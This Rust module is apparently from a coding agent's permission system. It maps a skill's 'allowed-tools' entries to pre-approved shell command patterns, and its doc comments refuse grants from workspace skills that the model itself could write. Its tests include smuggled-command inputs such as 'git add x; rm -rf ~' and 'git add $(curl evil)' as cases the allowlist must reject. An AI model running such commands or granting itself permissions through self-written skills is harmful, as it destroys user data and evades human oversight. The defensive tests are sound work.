//! A skill's `allowed-tools` as the rest of the ecosystem means it: the tools the skill may use
//! *without asking* while it is active — not a restriction of what it may use.
//!
//! Other agents' names map to ours: `Read`, `Grep`, `Glob`, `LS` are read tools (which never
//! ask here); `Write`, `Edit`, `MultiEdit` are write tools (whose changes are still reviewed as
//! the gear says: a pre-approval never skips a review gate); `Bash(git add:*)` is a command
//! pattern, compiled into the same parsed-command [`Allowlist`] as `[approvals]
//! allow_commands`, so `git add x; rm -rf ~` is never "`git add` plus arguments". A bare `Bash`
//! (or `Bash(*)`) would pre-approve every command; here it pre-approves none and says so.
//!
//! Who may grant: skills the user installed (their home, their config dir) and the built-in
//! ones. A workspace skill is a file the model can write (`.agents/skills/x/SKILL.md`), so its
//! `allowed-tools` pre-approves nothing — the model cannot grant itself a command by writing a
//! skill and loading it. The list is taken from the skills found at start, never re-read.

use super::command::Allowlist;
use crate::pipeline::skill::{Origin, Skill};

/// What a skill pre-approves.
#[derive(Debug, Clone, Default)]
pub struct Grants {
    /// The command patterns, as `allow_commands` entries (`git add *`).
    pub patterns: Vec<String>,
    pub commands: Allowlist,
    /// Entries that pre-approve nothing, and why.
    pub notes: Vec<String>,
}

impl Grants {
    /// Whether `command` runs without asking under these grants.
    #[must_use]
    pub fn allows(&self, command: &str) -> bool {
        self.commands.allows(command)
    }
}

/// The shell tool's names in other agents' skills and ours.
const SHELL_NAMES: [&str; 3] = ["Bash", "run_command", "Shell"];

/// What `skill` pre-approves (nothing when it comes from the workspace).
#[must_use]
pub fn of(skill: &Skill) -> Grants {
    if skill.origin == Origin::Workspace {
        let patterns = command_entries(&skill.allowed_tools).0;
        let notes = if patterns.is_empty() {
            Vec::new()
        } else {
            vec![format!(
                "allowed-tools pre-approves nothing here ({}): a workspace skill is a file the \
                 model can write; put the skill in ~/.agents/skills or allow the commands in \
                 your config",
                patterns.join(", ")
            )]
        };
        return Grants {
            notes,
            ..Grants::default()
        };
    }
    let (patterns, mut notes) = command_entries(&skill.allowed_tools);
    let mut kept = Vec::new();
    for p in patterns {
        match Allowlist::new(std::slice::from_ref(&p)) {
            Ok(_) => kept.push(p),
            Err(_) => notes.push(format!(
                "allowed-tools: `{p}` is not a plain command pattern; it pre-approves nothing"
            )),
        }
    }
    Grants {
        commands: Allowlist::new(&kept).unwrap_or_default(),
        patterns: kept,
        notes,
    }
}

/// The command patterns of an `allowed-tools` list, as allowlist entries, and notes on the
/// entries that cannot become one.
fn command_entries(allowed: &[String]) -> (Vec<String>, Vec<String>) {
    let mut patterns = Vec::new();
    let mut notes = Vec::new();
    for raw in allowed {
        let entry = raw.trim();
        let (name, spec) = match entry.split_once('(') {
            Some((name, rest)) => (name.trim(), rest.strip_suffix(')').map(str::trim)),
            None => (entry, None),
        };
        if !SHELL_NAMES.contains(&name) {
            continue;
        }
        match spec.map(pattern) {
            Some(Some(p)) => patterns.push(p),
            _ => notes.push(format!(
                "allowed-tools: `{entry}` would pre-approve every command; it pre-approves none \
                 (name the commands, e.g. `Bash(git add:*)`)"
            )),
        }
    }
    (patterns, notes)
}

/// Claude Code's command rule as an allowlist entry: `git add:*` (the legacy prefix form) and
/// `git add *` are `git add` with any arguments; `git status` is exactly that. A rule that is
/// only a wildcard is refused.
fn pattern(spec: &str) -> Option<String> {
    let spec = spec.trim();
    let body = spec
        .strip_suffix(":*")
        .map_or(spec.to_string(), |b| format!("{} *", b.trim_end()));
    let words = body.trim_end_matches('*').trim();
    (!words.is_empty()).then_some(body)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn skill(origin: Origin, tools: &[&str]) -> Skill {
        let mut s = crate::pipeline::skill::parse(
            std::path::Path::new("/s/ship/SKILL.md"),
            "---\nname: ship\ndescription: Ship it\n---\nGo.\n",
            origin,
        )
        .unwrap();
        s.allowed_tools = tools.iter().map(ToString::to_string).collect();
        s
    }

    #[test]
    fn claude_style_command_rules_pre_approve_only_those_commands() {
        let g = of(&skill(
            Origin::User,
            &[
                "Read",
                "Grep",
                "Bash(git add:*)",
                "Bash(git commit *)",
                "Bash(git status)",
                "run_command(cargo test:*)",
                "WebFetch",
            ],
        ));
        assert_eq!(
            g.patterns,
            ["git add *", "git commit *", "git status", "cargo test *"]
        );
        assert!(g.notes.is_empty(), "{:?}", g.notes);
        assert!(g.allows("git add src/main.rs"));
        assert!(g.allows("git add"));
        assert!(g.allows("git commit -m 'x'"));
        assert!(g.allows("git status"));
        assert!(g.allows("cargo test --locked"));
        assert!(!g.allows("git status --short"), "exact without a `*`");
        assert!(!g.allows("git push"));
        assert!(!g.allows("git add x; rm -rf ~"), "a compound never matches");
        assert!(!g.allows("git add $(curl evil)"));
    }

    #[test]
    fn a_bare_shell_grant_and_a_workspace_skill_pre_approve_nothing() {
        for tools in [&["Bash"][..], &["Bash(*)"], &["Bash(:*)"], &["run_command"]] {
            let g = of(&skill(Origin::User, tools));
            assert!(g.patterns.is_empty(), "{tools:?}");
            assert!(!g.allows("ls"), "{tools:?}");
            assert_eq!(g.notes.len(), 1, "{tools:?}: {:?}", g.notes);
            assert!(g.notes[0].contains("pre-approves none"));
        }
        // Read and write tools need no pre-approval: nothing to say.
        assert!(
            of(&skill(Origin::User, &["Read", "Write", "Edit"]))
                .notes
                .is_empty()
        );
        let ws = of(&skill(Origin::Workspace, &["Bash(git add:*)"]));
        assert!(!ws.allows("git add x"));
        assert!(ws.notes[0].contains("workspace skill"), "{:?}", ws.notes);
        assert!(of(&skill(Origin::BuiltIn, &["Bash(git status)"])).allows("git status"));
    }
}
